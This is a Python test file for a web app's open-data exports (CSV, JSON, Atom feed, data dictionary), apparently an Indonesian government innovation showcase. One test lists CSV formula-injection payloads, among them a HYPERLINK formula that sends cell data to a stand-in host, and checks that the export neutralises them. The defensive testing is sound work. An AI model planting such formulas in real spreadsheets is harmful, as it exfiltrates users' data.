"""Open data (CSV, JSON), the data dictionary and the Atom feed."""
import csv
import io
import json
from xml.etree import ElementTree

import pytest

from app.core.extensions import db
from app.showcase.services import OPEN_DATA_FIELDS
from tests import factories

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def data(make):
    make.cycle(year=2026)
    agency = make.agency(name="Dinas Kominfo", code="DISKOMINFO")
    original = factories.published(agency_=agency, title="Aplikasi Asli", contact="0335-111")
    hidden = make.proposal(status="approved", title="Belum Tayang")
    copy = factories.published(title="Replika Publik", replicates_id=original.id, status="implemented")
    secret_copy = factories.published(title="Replika Dari Rahasia", replicates_id=hidden.id)
    factories.votes(original, 3)
    make.proposal(status="draft", title="Draf Saja")
    db.session.commit()
    return {"original": original, "copy": copy, "secret_copy": secret_copy}


def test_csv_has_design_field_names_and_only_published_rows(client, data):
    response = client.get("/open-data/innovations.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "public, max-age=300"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert tuple(rows[0].keys()) == OPEN_DATA_FIELDS
    by_title = {row["title"]: row for row in rows}
    assert set(by_title) == {"Aplikasi Asli", "Replika Publik", "Replika Dari Rahasia"}
    original = by_title["Aplikasi Asli"]
    assert original["agency"] == "DISKOMINFO" and original["agency_name"] == "Dinas Kominfo"
    assert original["votes"] == "3" and original["year"] == "2026" and original["status"] == "approved"
    assert original["contact"] == "0335-111"
    assert by_title["Replika Publik"]["replicates"] == str(data["original"].id)
    assert by_title["Replika Dari Rahasia"]["replicates"] == ""


FORMULAS = ['=HYPERLINK("http://contoh.test/?d="&A1,"klik")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(client, make):
    make.cycle(year=2026)
    for title in FORMULAS:
        factories.published(title=title, contact="-")
    factories.published(title="Judul biasa", contact="0335-111")
    db.session.commit()
    response = client.get("/open-data/innovations.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert {row["title"] for row in rows} == {"'" + title for title in FORMULAS} | {"Judul biasa"}
    assert {row["contact"] for row in rows} == {"'-", "0335-111"}
    assert all(row["votes"] == "0" and row["year"] == "2026" and row["id"].isdigit() for row in rows)  # numbers stay
    # The JSON is data, not a spreadsheet: its titles are as typed.
    titles = {item["title"] for item in client.get("/open-data/innovations.json").get_json()["innovations"]}
    assert titles == set(FORMULAS) | {"Judul biasa"}
    assert "diberi tanda petik tunggal" in client.get("/open-data").get_data(as_text=True)  # the dictionary says so


def test_json_matches_csv(client, data):
    document = json.loads(client.get("/open-data/innovations.json").get_data(as_text=True))
    assert document["count"] == 3 and document["fields"] == list(OPEN_DATA_FIELDS)
    by_title = {row["title"]: row for row in document["innovations"]}
    assert by_title["Aplikasi Asli"]["votes"] == 3
    assert by_title["Replika Dari Rahasia"]["replicates"] is None
    assert set(by_title["Aplikasi Asli"]) == set(OPEN_DATA_FIELDS)


@pytest.mark.parametrize("url", ["/open-data/innovations.csv", "/open-data/innovations.json", "/feed.atom"])
def test_open_data_answers_conditional_requests_and_changes_with_data(client, make, data, url):
    etag = client.get(url).headers["ETag"]
    assert client.get(url, headers={"If-None-Match": etag}).status_code == 304
    factories.published(title="Inovasi Baru")
    db.session.commit()
    assert client.get(url, headers={"If-None-Match": etag}).status_code == 200


def test_atom_feed_lists_newest_published(client, data):
    response = client.get("/feed.atom")
    assert response.mimetype == "application/atom+xml"
    root = ElementTree.fromstring(response.data)
    entries = root.findall(f"{ATOM}entry")
    assert [e.find(f"{ATOM}title").text for e in entries] == ["Replika Dari Rahasia", "Replika Publik", "Aplikasi Asli"]
    assert entries[-1].find(f"{ATOM}link").get("href") == f"http://localhost/innovations/{data['original'].id}"


def test_data_dictionary_names_every_field_and_links_downloads(client, data):
    html = client.get("/open-data").get_data(as_text=True)
    for name in OPEN_DATA_FIELDS:
        assert f"<code>{name}</code>" in html
    for link in ("/open-data/innovations.csv", "/open-data/innovations.json", "/feed.atom"):
        assert f'href="{link}"' in html
    assert "<code>uji_coba</code>" in html  # enum codes are listed
    assert 'href="/open-data"' in html  # the footer links here
